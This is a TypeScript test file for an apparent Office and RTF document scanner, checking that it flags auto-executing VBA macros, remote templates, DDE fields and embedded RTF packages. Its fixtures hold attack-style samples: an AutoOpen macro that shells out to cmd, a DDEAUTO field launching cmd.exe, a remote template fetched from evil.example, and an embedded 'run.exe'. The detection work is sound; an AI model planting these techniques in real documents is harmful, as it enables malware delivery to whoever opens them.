import { test } from 'node:test';
import assert from 'node:assert/strict';
import { officeMacros } from '../../../src/scan/analyzers/office-macros.js';
import { CONTENT_TYPES, contextWithFiles, oleWithVba, zipOf } from '../office/office-samples.js';

const ids = (findings: readonly { id: string }[]): string[] => findings.map((f) => f.id).sort();

test('an OLE document with an auto-exec macro that shells out', async () => {
  const doc = oleWithVba({ ThisDocument: 'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n  Shell "cmd /c calc", vbHide\r\n  Set x = CreateObject("WScript.Shell")\r\nEnd Sub\r\n' });
  const findings = await officeMacros.analyze(contextWithFiles([{ name: 'invoice.doc', content: doc }]));
  assert.deepEqual(ids(findings), ['OFFICE_VBA_AUTOEXEC', 'OFFICE_VBA_MACRO', 'OFFICE_VBA_SUSPICIOUS']);
  assert.match(findings.find((f) => f.id === 'OFFICE_VBA_AUTOEXEC')?.detail ?? '', /AutoOpen/);
  assert.match(findings.find((f) => f.id === 'OFFICE_VBA_SUSPICIOUS')?.detail ?? '', /Shell.*WScript\.Shell.*CreateObject|Shell/);
  assert.match(findings.find((f) => f.id === 'OFFICE_VBA_MACRO')?.detail ?? '', /invoice\.doc: VBA project in macros\/vba\/ with 1 module\(s\), code in ThisDocument/);
});

test('an OOXML package with vbaProject.bin and a remote template', async () => {
  const docm = zipOf({
    '[Content_Types].xml': CONTENT_TYPES,
    'word/document.xml': '<w:document><w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p></w:body></w:document>',
    'word/vbaProject.bin': oleWithVba({ Module1: 'Sub Document_Open()\r\nx = Environ("TEMP")\r\nEnd Sub\r\n' }, 'VBA'),
    'word/_rels/settings.xml.rels': '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
    'word/_rels/document.xml.rels': '<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="\\\\192.0.2.7\\share\\x.doc" TargetMode="External"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://link.example/page" TargetMode="External"/></Relationships>',
  });
  const ctx = contextWithFiles([{ name: 'report.docm', content: docm }]);
  const findings = await officeMacros.analyze(ctx);
  assert.deepEqual(ids(findings), ['OFFICE_EXTERNAL_RELATIONSHIP', 'OFFICE_REMOTE_TEMPLATE', 'OFFICE_VBA_AUTOEXEC', 'OFFICE_VBA_MACRO', 'OFFICE_VBA_SUSPICIOUS']);
  assert.match(findings.find((f) => f.id === 'OFFICE_REMOTE_TEMPLATE')?.detail ?? '', /http:\/\/evil\.example\/t\.dotm/);
  assert.deepEqual(ctx.facts.urls.sort(), ['http://evil.example/t.dotm', 'https://link.example/page']);
});

test('DDEAUTO split across runs in a docx, and DDE in a binary .doc', async () => {
  const docx = zipOf({
    '[Content_Types].xml': CONTENT_TYPES,
    'word/document.xml': '<w:document><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>',
  });
  const findings = await officeMacros.analyze(contextWithFiles([{ name: 'dde.docx', content: docx }]));
  assert.deepEqual(ids(findings), ['OFFICE_DDE']);
  assert.match(findings[0]?.detail ?? '', /DDEAUTO c:/);
});

test('an RTF with an objdata Package is reported and its file extracted; objupdate and Equation Editor', async () => {
  const payload = Buffer.from('MZ fake executable');
  const native = Buffer.concat([Buffer.from([2, 0]), Buffer.from('run.exe\0C:\\tmp\\run.exe\0', 'latin1'), Buffer.from([3, 0]), u32(5), Buffer.from('a.exe', 'latin1'), u32(payload.length), payload]);
  const ole1 = Buffer.concat([u32(0x0501), u32(2), lpstr('Package'), lpstr(''), lpstr(''), u32(native.length), native]);
  const hex = ole1.toString('hex').replace(/(.{64})/g, '$1\r\n');
  const rtf = `{\\rtf1\\ansi{\\object\\objemb\\objupdate{\\*\\objclass Package}{\\*\\objdata ${hex}}}}`;
  const ctx = contextWithFiles([{ name: 'letter.rtf', content: Buffer.from(rtf, 'latin1') }]);
  const findings = await officeMacros.analyze(ctx);
  assert.deepEqual(ids(findings), ['RTF_EMBEDDED_OBJECT', 'RTF_OBJUPDATE']);
  const extracted = ctx.facts.files.find((f) => f.container.length > 0);
  assert.equal(extracted?.name, 'run.exe');
  assert.deepEqual(extracted?.container, ['letter.rtf']);
  assert.deepEqual(Buffer.from(extracted?.content ?? []), payload);

  const equation = `{\\rtf1{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata ${Buffer.concat([u32(0x0501), u32(2), lpstr('Equation.3'), lpstr(''), lpstr(''), u32(4), Buffer.from('abcd')]).toString('hex')}}}}`;
  assert.ok(ids(await officeMacros.analyze(contextWithFiles([{ name: 'eq.rtf', content: Buffer.from(equation) }]))).includes('RTF_EQUATION_EDITOR'));
});

test('benign documents give no findings', async () => {
  const docx = zipOf({ '[Content_Types].xml': CONTENT_TYPES, 'word/document.xml': '<w:document><w:body><w:fldSimple w:instr=" PAGE "/></w:body></w:document>' });
  const rtf = Buffer.from('{\\rtf1\\ansi Hello {\\b world}}');
  const findings = await officeMacros.analyze(contextWithFiles([{ name: 'a.docx', content: docx }, { name: 'b.rtf', content: rtf }, { name: 'c.txt', content: Buffer.from('plain') }]));
  assert.deepEqual(findings, []);
});

test('a damaged OLE file is a finding, not an exception', async () => {
  const doc = oleWithVba({ M: 'Sub X()\r\nEnd Sub\r\n' });
  doc.fill(0xff, 512, 1024);
  const findings = await officeMacros.analyze(contextWithFiles([{ name: 'broken.doc', content: doc }]));
  assert.ok(findings.length > 0 && findings.every((f) => /^(OFFICE_|SCAN_LIMIT_)/.test(f.id)), JSON.stringify(findings));
});

function u32(n: number): Buffer {
  const b = Buffer.alloc(4);
  b.writeUInt32LE(n);
  return b;
}

function lpstr(s: string): Buffer {
  return Buffer.concat([u32(s.length + 1), Buffer.from(`${s}\0`, 'latin1')]);
}
